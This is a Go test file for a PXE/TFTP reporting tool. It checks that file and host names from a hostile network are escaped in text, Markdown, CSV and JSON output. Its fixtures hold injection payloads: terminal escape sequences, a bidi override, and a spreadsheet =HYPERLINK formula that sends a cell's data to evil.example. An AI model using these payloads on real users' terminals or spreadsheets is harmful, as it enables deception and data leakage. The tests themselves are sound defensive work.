package report

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pxeperf/pxeperf/internal/testkit/golden"
	"github.com/pxeperf/pxeperf/record"
)

// hostileRecords are fetches whose names came from a hostile network: a
// TFTP RRQ for a name with an OSC sequence (retitle the window) and a
// clear-screen, a spreadsheet formula, a newline and a pipe, a host name
// with a bidi override, and a negative-looking name that is no number.
func hostileRecords() []record.Record {
	t0 := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	mk := func(id int64, file, host string) record.Record {
		return record.Record{ID: id, Time: t0.Add(time.Duration(id) * time.Second), Source: "serve", Proto: "tftp",
			ClientIP: "10.0.0.9", ClientMAC: "52:54:00:00:00:01", Host: host, File: file, Outcome: "error",
			Err: "file not found", Kind: record.KindError}
	}
	return []record.Record{
		mk(1, "\x1b]0;owned\x07\x1b[2Jboot.efi", "rpi"),
		mk(2, `=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd"),
		mk(3, "pxelinux.cfg/a\nb|c", "host\u202eexe.txt"),
		mk(4, "-2+3", "@SUM(1)"),
		mk(5, "\xff\xfename", "-1.5"),
	}
}

// TestHostileNames: the fetches table of hostile names, in every format,
// against its golden files, and the rules each format must keep.
func TestHostileNames(t *testing.T) {
	tb := Fetches(hostileRecords())
	for _, f := range Formats {
		var b bytes.Buffer
		if err := Render(&b, tb, f); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		golden.Check(t, filepath.Join("testdata", "hostile."+ext[f]), b.Bytes())
		if f == JSON {
			continue // encoding/json escapes controls itself
		}
		if strings.ContainsAny(out, "\x1b\x07\u202e") || strings.Contains(out, "\xff") {
			t.Errorf("%s: raw control characters in the output:\n%q", f, out)
		}
		switch f {
		case Text, Markdown:
			if n := strings.Count(out, "\n"); f == Text && n != 2+2+len(tb.Rows)+len(tb.Notes)+boolInt(len(tb.Notes) > 0) {
				t.Errorf("text: %d lines: a newline in a name broke a row:\n%s", n, out)
			}
			if f == Markdown {
				for _, l := range strings.Split(strings.TrimSpace(out), "\n")[2:] {
					if strings.HasPrefix(l, "|") && strings.Count(l, "|")-strings.Count(l, `\|`) != len(tb.Columns)+1 {
						t.Errorf("markdown row with a cell too many or too few: %s", l)
					}
				}
			}
		case CSV:
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range rows[1:] {
				for _, c := range r {
					if c != "" && strings.ContainsRune("=+-@", rune(c[0])) && !isNumber(c) {
						t.Errorf("CSV cell %q would be read as a formula", c)
					}
				}
			}
		}
	}
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

func isNumber(s string) bool {
	for _, r := range strings.TrimLeft(s, "+-") {
		if (r < '0' || r > '9') && r != '.' {
			return false
		}
	}
	return true
}

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"ipxe.efi":            "ipxe.efi",
		"a b/ü€ 日本":           "a b/ü€ 日本",
		"\x1b[2J":             `\x1b[2J`,
		"a\nb\tc\r":           `a\x0ab\x09c\x0d`,
		"\x7f\u009b":          `\x7f\x9b`,
		"x\u202ey\u2066":      `x\u202ey\u2066`,
		"\xff":                `\xff`,
		"ok\U000e0041":        `ok\U000e0041`,
		`back\slash "quoted"`: `back\slash "quoted"`,
	} {
		if got := Printable(in); got != want {
			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+cmd": "'+cmd", "-2+3": "'-2+3", "@SUM(1)": "'@SUM(1)", "\tx": `\x09x`,
		"-1.5": "-1.5", "+3": "+3", "-": "'-", "ipxe.efi": "ipxe.efi", "": "",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}
